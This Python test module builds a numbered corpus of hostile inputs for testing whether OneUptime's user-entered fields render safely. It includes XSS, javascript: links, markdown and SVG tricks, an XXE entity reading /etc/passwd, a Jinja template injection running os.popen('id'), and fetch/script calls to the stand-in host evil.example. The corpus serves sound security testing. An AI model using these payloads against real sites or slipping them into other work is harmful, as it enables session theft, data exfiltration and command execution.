"""Hostile text for every field a person types into OneUptime: XSS, markup, template and encoding tricks.

Each payload carries a marker naming it: `XSS-<n>` in what a script would
alert or log, `https://evil.example/<n>` in what a page would request. A hit in
the browser therefore says which payload got through. `payloads()` fills in
the numbers; PAYLOADS keeps the templates (with `{n}`) for reading.
"""

from __future__ import annotations

import base64

EVIL_HOST = "evil.example"
MARKER = "XSS-"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# Templates: "{n}" becomes the payload's number. Plain str.replace, not format(),
# so the braces of template-injection payloads stay as they are.
PAYLOADS: tuple[str, ...] = (
    # --- script tags
    '<script>alert("XSS-{n}")</script>',
    '<SCRIPT>alert("XSS-{n}")</SCRIPT>',
    '<script src="https://evil.example/{n}.js"></script>',
    '<scr<script>ipt>alert("XSS-{n}")</scr</script>ipt>',
    '"><script>alert("XSS-{n}")</script>',
    '\'><script>alert("XSS-{n}")</script>',
    '</title><script>alert("XSS-{n}")</script>',
    '</textarea><script>alert("XSS-{n}")</script>',
    '<<script>script>alert("XSS-{n}")<</script>/script>',
    '<script type="module">import("https://evil.example/{n}.js")</script>',
    '<script>fetch("https://evil.example/{n}")</script>',
    '<script>console.log("XSS-{n}")</script>',
    # --- event handlers
    '<img src=x onerror=alert("XSS-{n}")>',
    '<img src="x" onerror="fetch(\'https://evil.example/{n}\')">',
    '<svg onload=alert("XSS-{n}")>',
    '<body onload=alert("XSS-{n}")>',
    "<div onmouseover=\"alert('XSS-{n}')\">hover me</div>",
    '<input autofocus onfocus=alert("XSS-{n}")>',
    '<details open ontoggle=alert("XSS-{n}")>',
    '<video><source onerror=alert("XSS-{n}")></video>',
    '<audio src=x onerror=alert("XSS-{n}")>',
    '<marquee onstart=alert("XSS-{n}")>m</marquee>',
    '" onmouseover="alert(\'XSS-{n}\')" x="',
    "' onfocus='alert(\"XSS-{n}\")' autofocus='",
    '<img src=x oNeRrOr=alert("XSS-{n}")>',
    '<img/src=x/onerror=alert("XSS-{n}")>',
    '<img src=x onerror=&#97;lert("XSS-{n}")>',
    '<select autofocus onfocus=alert("XSS-{n}")></select>',
    '<textarea autofocus onfocus=alert("XSS-{n}")></textarea>',
    '<object data="https://evil.example/{n}"></object>',
    '<embed src="https://evil.example/{n}">',
    '<img src="https://evil.example/{n}.png">',
    '<img srcset="https://evil.example/{n}.png 1x">',
    '<a href="https://evil.example/{n}" ping="https://evil.example/ping-{n}">ping</a>',
    # --- javascript:, data:, vbscript: links, with case, whitespace, entity and percent tricks
    '[click](javascript:alert("XSS-{n}"))',
    '[click](JaVaScRiPt:alert("XSS-{n}"))',
    '[click]( javascript:alert("XSS-{n}"))',
    '[click](java\tscript:alert("XSS-{n}"))',
    '[click](java\nscript:alert("XSS-{n}"))',
    '[click](&#106;avascript:alert("XSS-{n}"))',
    '[click](java&#115;cript:alert("XSS-{n}"))',
    '[click](java&#x73;cript:alert("XSS-{n}"))',
    '[click](javascript&colon;alert("XSS-{n}"))',
    '[click](%6Aavascript:alert("XSS-{n}"))',
    '[click](javascript%3Aalert("XSS-{n}"))',
    '[click](<javascript:alert("XSS-{n}")>)',
    '<javascript:alert("XSS-{n}")>',
    "[click XSS-{n}](data:text/html;base64,{b64})",
    '[click](data:text/html,<script>alert("XSS-{n}")</script>)',
    '[click](vbscript:msgbox("XSS-{n}"))',
    '[click](VBScript:MsgBox("XSS-{n}"))',
    "<a href=\"javascript:alert('XSS-{n}')\">raw link</a>",
    '[click](javascript://%0aalert("XSS-{n}"))',
    '[click](\x01javascript:alert("XSS-{n}"))',
    '[click](jav\u200bascript:alert("XSS-{n}"))',
    '[click](\u00a0javascript:alert("XSS-{n}"))',
    "[click](file:///etc/passwd?XSS-{n})",
    "[click](//evil.example/{n})",
    "[click](https://example.com\" onclick=\"alert('XSS-{n}'))",
    '[click](https://example.com/"><script>alert("XSS-{n}")</script>)',
    '[click](https://example.com "title\\" onmouseover=\\"alert(\'XSS-{n}\')")',
    '[<img src=x onerror=alert("XSS-{n}")>](https://example.com)',
    '<a href="https://example.com">ok</a><a href="javascript:alert(\'XSS-{n}\')">bad</a>',
    # --- Markdown images, autolinks and reference definitions
    '![img](javascript:alert("XSS-{n}"))',
    "![img](https://evil.example/{n}.png)",
    "![img](//evil.example/{n}.png)",
    "![img XSS-{n}](data:image/svg+xml;base64,{b64svg})",
    "![x](x\" onerror=\"alert('XSS-{n}'))",
    '![<script>alert("XSS-{n}")</script>](https://evil.example/{n}.png)',
    "<https://evil.example/{n}>",
    '<https://evil.example/{n}?"><script>alert("XSS-{n}")</script>>',
    "<mailto:ops@evil.example?body=XSS-{n}>",
    '[a][ref]\n\n[ref]: javascript:alert("XSS-{n}")',
    '[a][ref]\n\n[ref]: <javascript:alert("XSS-{n}")> "title"',
    "![a][img]\n\n[img]: https://evil.example/{n}.png",
    '[a]\n\n[a]: https://evil.example/{n} "t\\" onclick=\\"alert(\'XSS-{n}\')"',
    # --- SVG and MathML
    '<svg><script>alert("XSS-{n}")</script></svg>',
    '<svg><animate onbegin=alert("XSS-{n}") attributeName=x dur=1s></svg>',
    "<svg><a xlink:href=\"javascript:alert('XSS-{n}')\"><text x=20 y=20>x</text></a></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("XSS-{n}")>',
    "<math href=\"javascript:alert('XSS-{n}')\">x</math>",
    '<svg/onload=fetch("https://evil.example/{n}")>',
    '<svg><image href="https://evil.example/{n}.png"/></svg>',
    # --- iframes, meta refresh and other ways to load or leave
    "<iframe src=\"javascript:alert('XSS-{n}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('XSS-{n}')</script>\"></iframe>",
    '<iframe src="https://evil.example/{n}"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{n}">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'XSS-{n}\')">',
    '<base href="https://evil.example/{n}/">',
    '<link rel="stylesheet" href="https://evil.example/{n}.css">',
    '<link rel="prefetch" href="https://evil.example/{n}">',
    '<form action="https://evil.example/{n}"><button>go</button></form>',
    '<portal src="https://evil.example/{n}"></portal>',
    '<table background="https://evil.example/{n}.png"><tr><td>x</td></tr></table>',
    # --- CSS
    '<style>body{background:url("https://evil.example/{n}.png")}</style>',
    '<div style="background:url(https://evil.example/{n}.png)">x</div>',
    "<div style=\"width: expression(alert('XSS-{n}'))\">x</div>",
    '<style>@import "https://evil.example/{n}.css";</style>',
    "<p style=\"background-image: url(javascript:alert('XSS-{n}'))\">x</p>",
    # --- entity and Unicode tricks
    '&lt;script&gt;alert("XSS-{n}")&lt;/script&gt;',
    '&#60;script&#62;alert("XSS-{n}")&#60;/script&#62;',
    "\u202egnp.exe XSS-{n} \u202c",
    '\u200b<\u200bscript>alert("XSS-{n}")</script>',
    '\uff1cscript\uff1ealert("XSS-{n}")\uff1c/script\uff1e',
    '<\u0455cript>alert("XSS-{n}")</\u0455cript>',
    "[p\u0430ypal.com](https://evil.example/{n})",
    '\ufeff<script>alert("XSS-{n}")</script>',
    '\x00<script>alert("XSS-{n}")</script>',
    '<scr\x00ipt>alert("XSS-{n}")</script>',
    '\ud800<script>alert("XSS-{n}")</script>\udfff',
    '%3Cscript%3Ealert("XSS-{n}")%3C/script%3E',
    '\\u003cscript\\u003ealert("XSS-{n}")\\u003c/script\\u003e',
    '\x1b[31m<script>alert("XSS-{n}")</script>\x07\x08\x0b\x0c\x7f',
    "\ufffe\uffff XSS-{n}",
    # --- unclosed tags
    '<img src=x onerror=alert("XSS-{n}") ',
    "<b><i>unclosed XSS-{n}",
    "<a href=\"javascript:alert('XSS-{n}')\"",
    "<!-- unclosed comment XSS-{n}",
    '<script>alert("XSS-{n}")',
    "<title>XSS-{n}",
    "<plaintext>XSS-{n}",
    '<xmp><script>alert("XSS-{n}")</script></xmp>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('XSS-{n}')>\">",
    '<textarea><script>alert("XSS-{n}")</script>',
    # --- HTML comments, CDATA and XML breakers (the feeds are XML)
    '<!-- --><script>alert("XSS-{n}")</script><!-- -->',
    '<!--><script>alert("XSS-{n}")</script>-->',
    '<![CDATA[<script>alert("XSS-{n}")</script>]]>',
    ']]><script>alert("XSS-{n}")</script>',
    "]]></content></entry><entry><title>XSS-{n}</title>",
    "</title></item><item><title>XSS-{n}</title><link>https://evil.example/{n}</link>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;XSS-{n}</x>',
    "&xxe; &nbsp &amp;amp; &#0; &#xD800; &#x110000; XSS-{n}",
    # --- template injection (Jinja and others): must render literally
    "{{ 7*7 }} XSS-{n}",
    "{% raw %}{{ 7*7 }}{% endraw %} XSS-{n}",
    "{{ config }}{{ self.__init__.__globals__ }} XSS-{n}",
    "${7*7} #{7*7} <%= 7*7 %> XSS-{n}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} XSS-{n}",
    "{# comment #}{%- if true -%}XSS-{n}{%- endif -%}",
    "{{ '<script>alert(\"XSS-{n}\")</script>'|safe }}",
    # --- JSON and script-context breakers
    '</script><script>alert("XSS-{n}")</script>',
    '"}]}\u2028\u2029 XSS-{n}',
    '\\"; alert("XSS-{n}"); //',
    '\u2028alert("XSS-{n}")\u2029',
    "\\ud800 \\u0000 XSS-{n}",
    # --- Markdown structure around raw HTML
    '`<script>alert("XSS-{n}")</script>`',
    '```html\n<script>alert("XSS-{n}")</script>\n```',
    '```"onmouseover=alert("XSS-{n}")\ncode\n```',
    '| a |\n|---|\n| <script>alert("XSS-{n}")</script> |',
    '# <script>alert("XSS-{n}")</script>',
    '> <img src=x onerror=alert("XSS-{n}")>',
    '- [ ] <svg onload=alert("XSS-{n}")>',
    'Setext <script>alert("XSS-{n}")</script>\n===',
    "[" * 200 + "XSS-{n}" + "]" * 200,
    "*" * 500 + " XSS-{n}",
    '<div>\n\n[click](javascript:alert("XSS-{n}"))\n\n</div>',
    '    <script>alert("XSS-{n}")</script>',
)


def payloads() -> list[str]:
    """The corpus with each payload's number filled in: payload i carries XSS-i and evil.example/i."""
    filled = []
    for number, template in enumerate(PAYLOADS):
        script = f'<script>alert("{MARKER}{number}")</script>'
        svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'{MARKER}{number}\')"/>'
        text = template.replace("{b64}", _b64(script)).replace("{b64svg}", _b64(svg))
        filled.append(text.replace("{n}", str(number)))
    return filled


def number_in(text: str) -> str:
    """The payload numbers a browser message or URL names, for a readable failure."""
    import re

    return ", ".join(sorted(set(re.findall(rf"(?:{MARKER}|{EVIL_HOST}/(?:ping-)?)(\d+)", text)))) or "?"
